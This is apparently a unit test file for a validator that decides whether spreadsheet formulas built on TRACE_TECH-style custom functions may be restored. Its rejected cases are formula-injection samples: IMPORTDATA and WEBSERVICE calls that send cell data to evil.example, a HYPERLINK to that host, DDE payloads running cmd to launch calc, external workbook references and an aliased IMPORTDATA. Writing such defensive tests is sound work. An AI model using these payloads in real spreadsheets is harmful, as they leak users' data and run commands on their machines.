import { mayComeBack } from '../../../shared/frozen/may-come-back';

it.each([
  '=TRACE_TECH(A2)',
  '=DEV.TRACE_TECH(A2:A500,"name")',
  '=IFERROR(TRACE_COMPANY(A2,"country"),"none: ask")',
  "=TRACE_TECH('My leads'!A2)&'My leads'!B2",
  '=TRACE_TECH([@Domain])',
  '=TRACE_TECH(Leads[[#This Row],[Domain]])',
  '=TRACE_TECH(A2#)',
])('comes back by a click: %s', (formula) => {
  expect(mayComeBack(formula)).toBe(true);
});

it.each([
  '=1+1',
  'TRACE_TECH(A2)',
  '=TRACE_TECH(A2)&IMPORTDATA("https://evil.example/?"&A2)',
  '=TRACE_TECH(WEBSERVICE("https://evil.example"))',
  '=TRACE_TECH(A2)&HYPERLINK("https://evil.example","x")',
  "=TRACE_TECH(A2)&cmd|'/c calc'!A0",
  '=TRACE_TECH(A2)&cmd|x!A0',
  '=TRACE_TECH([evil.xlsx]S!A1)',
  "=TRACE_TECH('C:\\x\\[evil.xlsx]S'!A1)",
  "=TRACE_TECH('https://evil.example/x.xlsx'!Name)",
  '=LET(f,IMPORTDATA,TRACE_TECH(f(A2)))',
])('does not come back by a click: %s', (formula) => {
  expect(mayComeBack(formula)).toBe(false);
});
